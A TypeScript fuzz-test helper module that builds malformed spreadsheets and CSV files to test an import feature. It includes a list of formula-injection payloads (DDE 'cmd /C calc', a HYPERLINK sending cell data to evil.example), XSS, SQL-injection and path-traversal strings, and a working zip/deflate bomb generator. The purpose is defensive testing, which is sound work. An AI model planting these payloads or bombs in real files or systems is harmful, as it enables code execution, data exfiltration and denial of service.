/**
 * Generators of malformed spreadsheets for the import fuzz tests (issue 10, part 2): workbooks built
 * in memory entry by entry (our own zip writer, so entry order, compression, declared sizes and
 * data descriptors can all be wrong on purpose), CSV text with broken encodings, and deflate bombs.
 * No disk, no database.
 */
import { deflateRawSync, constants as zc } from 'node:zlib';
import fc from 'fast-check';

// ---------------------------------------------------------------- zip writer

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

export function crc32(data: Uint8Array): number {
  let c = 0xffffffff;
  for (let i = 0; i < data.length; i++) c = CRC_TABLE[(c ^ data[i]!) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

export interface ZipEntry {
  name: string;
  data: Buffer;
  /** 0 stored, 8 deflated (default); any other number is written as is (an unknown method). */
  method?: number;
  /** Already compressed bytes (a bomb), with the sizes to declare. */
  raw?: { compressed: Buffer; size: number; crc: number };
  /** Declare this uncompressed size instead of the real one (a lying header). */
  declaredSize?: number;
  /** Sizes and CRC after the data (general purpose flag bit 3), zeros in the local header. */
  descriptor?: boolean;
}

/** A zip archive of the entries, in the order given. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const method = e.method ?? 8;
    const compressed = e.raw?.compressed ?? (method === 8 ? deflateRawSync(e.data) : e.data);
    const size = e.declaredSize ?? e.raw?.size ?? e.data.length;
    const crc = e.raw?.crc ?? crc32(e.data);
    const flags = 0x0800 | (e.descriptor ? 0x0008 : 0);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(e.descriptor ? 0 : crc, 14);
    local.writeUInt32LE(e.descriptor ? 0 : compressed.length, 18);
    local.writeUInt32LE(e.descriptor ? 0 : size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    const parts = [local, name, compressed];
    if (e.descriptor) {
      const d = Buffer.alloc(16);
      d.writeUInt32LE(0x08074b50, 0);
      d.writeUInt32LE(crc, 4);
      d.writeUInt32LE(compressed.length, 8);
      d.writeUInt32LE(size >>> 0, 12);
      parts.push(d);
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    const localBytes = Buffer.concat(parts);
    locals.push(localBytes);
    offset += localBytes.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

// ---------------------------------------------------------------- workbook parts

export const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
  + '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
  + '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
  + '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>';
const ROOT_RELS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
  + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>';
const WORKBOOK = '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
  + '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>';
const WORKBOOK_RELS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
  + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
  + '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
  + '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>';
/** Style 1 is a date (numFmt 14), so numbers in it come back as dates. */
const STYLES = '<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
  + '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
  + '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
  + '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs></styleSheet>';

/** One cell as it is written in the sheet XML (the reference is added by the row). */
export type CellXml = { ref?: string; xml: string };

export interface Workbook {
  /** Each row's cells (already XML); a row's number is its index + 1 unless `rowNumbers` says otherwise. */
  rows: CellXml[][];
  sharedStrings: string[];
  rowNumbers?: Array<number | string | null>;
  /** Entry order: the sheet before the shared strings, as Excel itself writes it. */
  sheetFirst?: boolean;
  method?: 0 | 8;
  descriptor?: boolean;
  /** Leave out these parts. */
  omit?: Array<'workbook' | 'rels' | 'sharedStrings' | 'styles' | 'contentTypes' | 'sheet'>;
  /** Extra raw text spliced into the sheet XML (broken markup). */
  sheetSuffix?: string;
}

export function columnName(n: number): string {
  let s = '';
  for (let x = n; x > 0; x = Math.floor((x - 1) / 26)) s = String.fromCharCode(65 + ((x - 1) % 26)) + s;
  return s;
}

export function sheetXml(w: Pick<Workbook, 'rows' | 'rowNumbers' | 'sheetSuffix'>): string {
  const rows = w.rows.map((cells, i) => {
    const n = w.rowNumbers?.[i] === undefined ? i + 1 : w.rowNumbers[i];
    const cellsXml = cells.map((c, j) => {
      const ref = c.ref ?? (typeof n === 'number' ? `${columnName(j + 1)}${n}` : undefined);
      return c.xml.replace('<c', ref === undefined ? '<c' : `<c r="${ref}"`);
    }).join('');
    return n === null ? `<row>${cellsXml}</row>` : `<row r="${n}">${cellsXml}</row>`;
  }).join('');
  return '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    + `<sheetData>${rows}</sheetData>${w.sheetSuffix ?? ''}</worksheet>`;
}

export function workbookBytes(w: Workbook, sheet: Buffer = Buffer.from(sheetXml(w), 'utf8')): Buffer {
  const omit = new Set(w.omit ?? []);
  const sst = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${w.sharedStrings.length}" uniqueCount="${w.sharedStrings.length}">`
    + w.sharedStrings.map((s) => `<si><t xml:space="preserve">${s}</t></si>`).join('') + '</sst>';
  const opts = { method: w.method ?? 8, descriptor: w.descriptor ?? false };
  const parts: Array<[string, Buffer, string]> = [
    ['contentTypes', Buffer.from(CONTENT_TYPES), '[Content_Types].xml'],
    ['rels', Buffer.from(ROOT_RELS), '_rels/.rels'],
    ['workbook', Buffer.from(WORKBOOK), 'xl/workbook.xml'],
    ['rels', Buffer.from(WORKBOOK_RELS), 'xl/_rels/workbook.xml.rels'],
    ['styles', Buffer.from(STYLES), 'xl/styles.xml'],
  ];
  const sheetPart: [string, Buffer, string] = ['sheet', sheet, 'xl/worksheets/sheet1.xml'];
  const sstPart: [string, Buffer, string] = ['sharedStrings', Buffer.from(sst, 'utf8'), 'xl/sharedStrings.xml'];
  const ordered = w.sheetFirst ? [...parts, sheetPart, sstPart] : [...parts, sstPart, sheetPart];
  return zip(ordered.filter(([k]) => !omit.has(k as never)).map(([, data, name]) => ({ name, data, ...opts })));
}

// ---------------------------------------------------------------- cell values

/** Formula-injection payloads a spreadsheet program would run if the text became a formula. */
export const FORMULA_PAYLOADS = [
  "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', '+1+cmd|\' /C notepad\'!A0', '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1', "=DDE(\"cmd\";\"/C calc\";\"!A0\")", '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
];

/** Text that is hostile in some way: control characters, lone surrogates, huge, RTL, NUL, Excel escapes. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULA_PAYLOADS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom('\u0000', 'a\u0000b', '_x0000_', 'Nguy_x0000_ễn', '_x001F_', '\u202Eevil', '\uFEFF', '\uD800', '\uDFFF\uD800', 'null', 'undefined', 'NaN',
    '-0', '1e400', '-1e400', '9'.repeat(40), '0x1F', ' ', '\u00A0', '\u3000', '<script>alert(1)</script>', "'; drop table person; --", '%s%n', '../../etc/passwd'),
  fc.integer({ min: 1, max: 3 }).map((k) => 'Â'.repeat(k * 3_000)),
);

/** The text of one XML text node for a string (escaped, or sometimes deliberately not). */
export const textNode: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: hostileText.map(xmlEscape) },
  { weight: 1, arbitrary: fc.constantFrom('<', '&', '&bogus;', '&#0;', '&#xD800;', ']]>', '<t>', '&#65;') },
);
/** Hostile text, escaped: well-formed XML. */
export const escapedText: fc.Arbitrary<string> = hostileText.map(xmlEscape);

/** One cell whose text is `value` (a string already escaped for XML), in any of the ways a file can hold it. */
export function cellFor(escaped: fc.Arbitrary<string>, sharedStrings: string[], odd = true): fc.Arbitrary<CellXml> {
  const kinds = [
    { weight: 5, arbitrary: escaped.map((t) => ({ xml: `<c t="inlineStr"><is><t xml:space="preserve">${t}</t></is></c>` })) },
    { weight: 3, arbitrary: escaped.map((t) => { sharedStrings.push(t); return { xml: `<c t="s"><v>${sharedStrings.length - 1}</v></c>` }; }) },
    { weight: 1, arbitrary: fc.oneof(fc.double(), fc.integer(), fc.constantFrom('1e400', 'NaN', '-', '', 'abc', '99999999999999999999999')).map((v) => ({ xml: `<c><v>${v}</v></c>` })) },
    { weight: 1, arbitrary: fc.oneof(fc.integer({ min: -1000, max: 3_000_000 }), fc.double({ noNaN: true })).map((v) => ({ xml: `<c s="1"><v>${v}</v></c>` })) },
    { weight: 1, arbitrary: fc.constantFrom(...FORMULA_PAYLOADS).map((f) => ({ xml: `<c t="str"><f>${xmlEscape(f.replace(/^[=+\-@\t\r]+/, ''))}</f><v>${xmlEscape(f)}</v></c>` })) },
    { weight: 1, arbitrary: fc.constantFrom('#DIV/0!', '#REF!', '#N/A').map((e) => ({ xml: `<c t="e"><v>${e}</v></c>` })) },
    { weight: 1, arbitrary: fc.constantFrom('0', '1', 'x').map((b) => ({ xml: `<c t="b"><v>${b}</v></c>` })) },
  ];
  const oddKinds = [
    { weight: 1, arbitrary: fc.integer({ min: -5, max: 1_000_000 }).map((i) => ({ xml: `<c t="s"><v>${i}</v></c>` })) },
    { weight: 1, arbitrary: fc.constantFrom('<c/>', '<c t="inlineStr"/>', '<c t="zzz"><v>1</v></c>', '<c><f>1/0</f></c>', '<c t="s"><v></v></c>').map((xml) => ({ xml })) },
    { weight: 1, arbitrary: fc.constantFrom('XFD1048576', 'A0', 'ZZZZ1', 'A-1', '1A', '', 'A99999999999').chain((ref) => escaped.map((t) => ({ ref, xml: `<c t="inlineStr"><is><t>${t}</t></is></c>` }))) },
  ];
  return fc.oneof(...kinds, ...(odd ? oddKinds : []));
}

export interface ImportShape {
  /** The header names an import accepts, one list per column (the first is written most often). */
  columns: string[][];
  /** Plausible text per column, so that rows get past the header and into row validation. */
  good: Array<fc.Arbitrary<string>>;
}

/** A workbook whose first row is (mostly) a valid header of the import and whose rows mix good and hostile cells. */
export function workbookFor(shape: ImportShape, maxRows = 6): fc.Arbitrary<Workbook> {
  // Most files are well-formed workbooks with hostile cell content, so rows reach the import's
  // checks; one in three also has a broken structure (header row, row numbers, parts, markup).
  return fc.record({
    headerOrder: fc.shuffledSubarray(shape.columns.map((_, i) => i), { minLength: Math.max(0, shape.columns.length - 1) }),
    headerNames: fc.tuple(...shape.columns.map((names) => fc.oneof({ weight: 12, arbitrary: fc.constantFrom(...names) }, { weight: 1, arbitrary: hostileText }))),
    rowCount: fc.integer({ min: 0, max: maxRows }),
    sheetFirst: fc.boolean(),
    method: fc.constantFrom<0 | 8>(0, 8, 8),
    descriptor: fc.boolean(),
    structure: fc.oneof({ weight: 2, arbitrary: fc.constant(null) }, {
      weight: 1,
      arbitrary: fc.record({
        headerRowNumber: fc.constantFrom<number | string | null>(1, 2, null, 0, 'x', 1048577),
        sheetSuffix: fc.constantFrom('', '<sheetData><row r="1"/></sheetData>', '<', '</worksheet><extra>', '<mergeCells count="1"><mergeCell ref="A1:Z9"/></mergeCells>'),
        omit: fc.subarray(['workbook', 'rels', 'sharedStrings', 'styles', 'contentTypes'] as const, { maxLength: 1 }),
        oddRows: fc.boolean(),
      }),
    }),
  }).chain((p) => {
    const sharedStrings: string[] = [];
    const odd = p.structure !== null;
    const text = odd ? textNode : escapedText;
    const cellArb = (col: number) => cellFor(fc.oneof({ weight: 3, arbitrary: shape.good[col]!.map(xmlEscape) }, { weight: 2, arbitrary: text }), sharedStrings, odd);
    const row = fc.tuple(...p.headerOrder.map((col) => cellArb(col)), fc.array(cellFor(text, sharedStrings, odd), { maxLength: 2 }))
      .map(([...cells]) => { const extra = cells.pop() as CellXml[]; return [...(cells as CellXml[]), ...extra]; });
    const rowNumber = p.structure?.oddRows
      ? fc.oneof({ weight: 4, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.constantFrom<number | string | null>(null, 0, -1, 1, 3, 1048577, 'x') })
      : fc.constant(undefined);
    return fc.record({
      body: fc.array(row, { minLength: p.rowCount, maxLength: p.rowCount }),
      rowNumbers: fc.array(rowNumber, { minLength: p.rowCount, maxLength: p.rowCount }),
    }).map(({ body, rowNumbers }) => {
      const header: CellXml[] = p.headerOrder.map((col) => ({ xml: `<c t="inlineStr"><is><t>${xmlEscape(p.headerNames[col]!)}</t></is></c>` }));
      const numbers: Array<number | string | null> = [p.structure?.headerRowNumber ?? 1, ...rowNumbers.map((n, i) => (n === undefined ? i + 2 : n))];
      return {
        rows: [header, ...body], rowNumbers: numbers, sharedStrings, sheetFirst: p.sheetFirst, method: p.method,
        descriptor: p.descriptor, omit: [...(p.structure?.omit ?? [])], sheetSuffix: p.structure?.sheetSuffix ?? '',
      } satisfies Workbook;
    });
  });
}

// ---------------------------------------------------------------- damaged files

/** Byte-level damage done to a good file: truncation, flipped bytes, a swapped prefix, an empty body. */
export const damage: fc.Arbitrary<(b: Buffer) => Buffer> = fc.oneof(
  { weight: 4, arbitrary: fc.double({ min: 0, max: 1, noNaN: true }).map((f) => (b: Buffer) => b.subarray(0, Math.floor(b.length * f))) },
  { weight: 4, arbitrary: fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }).map((flips) => (b: Buffer) => {
    const c = Buffer.from(b);
    for (const [at, v] of flips) if (c.length) c[Math.floor(at * c.length)] = v;
    return c;
  }) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((junk) => (b: Buffer) => Buffer.concat([Buffer.from(junk), b])) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }).map((junk) => () => Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.from(junk)])) },
  { weight: 1, arbitrary: fc.constantFrom(Buffer.alloc(0), Buffer.from('PK'), Buffer.from('Họ và tên,Giới tính\n'), Buffer.from('%PDF-1.4'), Buffer.from([0xff, 0xfe, 0x41, 0x00])).map((x) => () => x) },
);

/**
 * A deflate stream that inflates to `header + chunk × repeat + footer` without ever holding that in
 * memory: each chunk is compressed alone and ends on a byte boundary (Z_SYNC_FLUSH), so the same
 * compressed block can be repeated, and an empty final block closes the stream.
 */
export function deflateBomb(header: string, chunk: string, repeat: number, footer: string): { compressed: Buffer; size: number } {
  const sync = { finishFlush: zc.Z_SYNC_FLUSH, level: 9 };
  const h = deflateRawSync(Buffer.from(header), sync);
  const c = deflateRawSync(Buffer.from(chunk), sync);
  const f = deflateRawSync(Buffer.from(footer), sync);
  const parts = [h];
  for (let i = 0; i < repeat; i++) parts.push(c);
  parts.push(f, Buffer.from([0x03, 0x00]));
  return { compressed: Buffer.concat(parts), size: Buffer.byteLength(header) + Buffer.byteLength(chunk) * repeat + Buffer.byteLength(footer) };
}

/** A small workbook whose sheet (or shared strings) inflates to about `megabytes` MB. */
export function zipBomb(kind: 'rows' | 'one-cell' | 'shared-strings', megabytes: number, opts: { sheetFirst?: boolean; lieAboutSize?: boolean } = {}): Buffer {
  const head = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    + '<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c><c r="B1" t="inlineStr"><is><t>Giới tính</t></is></c><c r="C1" t="inlineStr"><is><t>Mã xã/phường</t></is></c></row>';
  const mb = 1 << 20;
  let part: { name: string; bomb: { compressed: Buffer; size: number } };
  if (kind === 'rows') {
    const row = '<row><c t="inlineStr"><is><t>Nguyễn Văn A</t></is></c><c t="inlineStr"><is><t>Nam</t></is></c><c t="inlineStr"><is><t>07801</t></is></c></row>';
    const chunk = row.repeat(Math.ceil(mb / row.length));
    part = { name: 'xl/worksheets/sheet1.xml', bomb: deflateBomb(head, chunk, megabytes, '</sheetData></worksheet>') };
  } else if (kind === 'one-cell') {
    part = { name: 'xl/worksheets/sheet1.xml', bomb: deflateBomb(`${head}<row r="2"><c r="A2" t="inlineStr"><is><t>`, 'A'.repeat(mb), megabytes, '</t></is></c></row></sheetData></worksheet>') };
  } else {
    part = { name: 'xl/sharedStrings.xml', bomb: deflateBomb('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', '<si><t>x</t></si>'.repeat(mb / 16), megabytes, '</sst>') };
  }
  const rest: ZipEntry[] = [
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(ROOT_RELS) },
    { name: 'xl/workbook.xml', data: Buffer.from(WORKBOOK) },
    { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from(WORKBOOK_RELS) },
  ];
  const bombEntry: ZipEntry = { name: part.name, data: Buffer.alloc(0), raw: { ...part.bomb, crc: 0 }, ...(opts.lieAboutSize ? { declaredSize: 4096 } : {}) };
  const other: ZipEntry = kind === 'shared-strings'
    ? { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheetXml({ rows: [[{ xml: '<c t="s"><v>0</v></c>' }]] })) }
    : { name: 'xl/sharedStrings.xml', data: Buffer.from('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>') };
  return zip(opts.sheetFirst ? [...rest, bombEntry, other] : [...rest, other, bombEntry]);
}

// ---------------------------------------------------------------- CSV

/** CSV bytes: a header of the import's names, rows of good and hostile fields, and encoding damage. */
export function csvFor(shape: ImportShape): fc.Arbitrary<Buffer> {
  const field = (col: number) => fc.oneof({ weight: 3, arbitrary: shape.good[col]! }, { weight: 2, arbitrary: hostileText });
  const quote = (s: string) => (/[",;\t\n\r]/.test(s) || s.startsWith(' ') ? `"${s.replace(/"/g, '""')}"` : s);
  return fc.record({
    delimiter: fc.constantFrom(',', ';', '\t'),
    header: fc.tuple(...shape.columns.map((names) => fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...names) }, { weight: 1, arbitrary: hostileText }))),
    rows: fc.array(fc.tuple(...shape.columns.map((_, i) => field(i)), fc.boolean()), { maxLength: 6 }),
    newline: fc.constantFrom('\n', '\r\n', '\r'),
    bom: fc.boolean(),
    encoding: fc.constantFrom('utf8', 'utf8', 'utf8', 'latin1', 'utf16le', 'broken'),
    unclosedQuote: fc.boolean(),
  }).map((c) => {
    const lines = [c.header.map(quote).join(c.delimiter), ...c.rows.map((r) => { const more = r.pop(); return (r as string[]).map(quote).join(c.delimiter) + (more ? c.delimiter : ''); })];
    let text = lines.join(c.newline);
    if (c.unclosedQuote) text += `${c.newline}"unterminated`;
    const body = c.encoding === 'broken' ? Buffer.concat([Buffer.from(text, 'utf8'), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xed, 0xa0, 0x80, 0xf8])])
      : Buffer.from(text, c.encoding as BufferEncoding);
    return c.bom ? Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), body]) : body;
  });
}
